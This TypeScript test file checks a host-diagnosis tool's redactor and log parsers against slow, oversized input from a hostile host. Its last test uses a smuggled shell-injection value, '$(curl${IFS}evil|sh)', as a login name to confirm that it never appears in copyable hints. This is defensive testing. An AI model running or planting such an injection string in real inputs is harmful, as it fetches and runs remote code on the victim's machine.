import { describe, expect, it } from 'vitest';
import { ClientError } from '../../src/model/client-error.js';
import type { Reading } from '../../src/model/reading.js';
import { Service } from '../../src/model/service.js';
import type { CollectContext } from '../../src/diagnosis/collect-context.js';
import { frameReading } from '../../src/diagnosis/frame-reading.js';
import { unread } from '../../src/diagnosis/read-fact.js';
import { createRedactor } from '../../src/diagnosis/redact.js';
import { listenSockets } from '../../src/probes/listen-sockets.js';
import { proxyLog } from '../../src/probes/proxy-log.js';
import { unitJournal } from '../../src/probes/unit-journal.js';
import { unitProcesses } from '../../src/probes/unit-processes.js';

/** As much as one probe of a host may send. A blocked loop loses the locks of all other runs. */
const FULL = 256 * 1024;
const MAY_TAKE_MS = 1000;
const fill = (piece: string, length = FULL): string =>
  piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
/** Processor time, not the clock's: neighbours on the machine must not count. */
const took = (work: () => unknown): number => {
  const started = process.cpuUsage();
  try {
    work();
  } catch (error) {
    if (!(error instanceof ClientError)) throw error;
  }
  const { user, system } = process.cpuUsage(started);
  return (user + system) / 1000;
};
const service = Service.parse({
  name: 'api',
  title: 'api',
  hosts: ['api-1'],
  unit: 'api',
  health: 'http://127.0.0.1:8000/health',
  proxy: { kind: 'nginx' },
});
const redactor = createRedactor(['a-secret-of-ours-77']);
const head = {
  probe: 'listen-sockets',
  target: { kind: 'host', name: 'api-1' },
  via: 'api-1',
  source: 'ss',
  at: '2026-11-22T11:00:00.000Z',
  durationMs: 1,
} as const;

describe('a hostile host costs no time', () => {
  it.each([
    ['sk-', 'sk-'.repeat(1600)],
    ['dotted words', `password secret token key sk- ${'a.'.repeat(2000)}`],
    ['empty lines', ''],
    ['spaces', `password=" ${' '.repeat(4000)}`],
    ['escaped JSON', '\\"password\\":'.repeat(300)],
    ['percent signs', '%3a%2f%2fa%3a'.repeat(300)],
    ['sentences', 'password a '.repeat(400)],
  ])('to the redactor: %s', (_name, line) => {
    expect(took(() => redactor.text(fill(`${line}\n`)))).toBeLessThan(MAY_TAKE_MS);
  });

  it.each([
    ['processes', unitProcesses, 'unit api\nprocesses 9\nup 1 1\nup 2 2\n', 'stat 1 (a) S 1 1\n'],
    [
      'one line of nginx',
      proxyLog,
      'now 2026/11/22 11:00:00 1795345200 ana\n',
      '2026/11/22 11:00:00 [error] connect() ',
    ],
    [
      'one line of nginx, repeated',
      proxyLog,
      'now 2026/11/22 11:00:00 1795345200 ana\n2026/11/22 11:00:00 [error] ',
      'connect() ',
    ],
    ['a journal entry', unitJournal, 'unit api\n2026-11-22T11:00:00.000000+0000 h ', 'a'],
  ])('to the parser: %s', (_name, probe, start, piece) => {
    const output = { stdout: start + fill(piece), exitCode: 0 };
    expect(took(() => probe.parse(output, service))).toBeLessThan(MAY_TAKE_MS);
  });

  it('by its complaints of a missing command', () => {
    const frame = { id: 'listen-sockets', exitCode: 127, body: '', truncated: false };
    const stderr = `@listen-sockets: ${fill('a', 32_000)} not found`;
    const context = { redactor, service } as CollectContext; // all that it looks at
    expect(took(() => frameReading(listenSockets, head, frame, stderr, context))).toBeLessThan(MAY_TAKE_MS);
  });

  it("by a server's message of any length", () => {
    let reading: Reading | null = null;
    const spaces = fill(`${' '.repeat(4000)}x\n`, 4 * FULL);
    expect(took(() => (reading = unread(head, 'malformed', spaces, redactor)))).toBeLessThan(MAY_TAKE_MS);
    expect(JSON.stringify(reading).length).toBeLessThan(1000);
  });
});

describe('a hostile host writes no commands for people to copy', () => {
  it('as the name of the login', () => {
    const login = '$(curl${IFS}evil|sh)';
    const journal = `unit api\nHint: You are currently not seeing messages from other users\nlogin ${login}\n`;
    expect(() => unitJournal.parse({ stdout: journal, exitCode: 0 }, service)).toThrow(
      'usermod -aG systemd-journal LOGIN',
    );
    const log = `now 2026/11/22 11:00:00 1795345200 ${login}\ntail: x: Permission denied\n`;
    expect(() => proxyLog.parse({ stdout: log, exitCode: 0 }, service)).not.toThrow(login);
  });
});
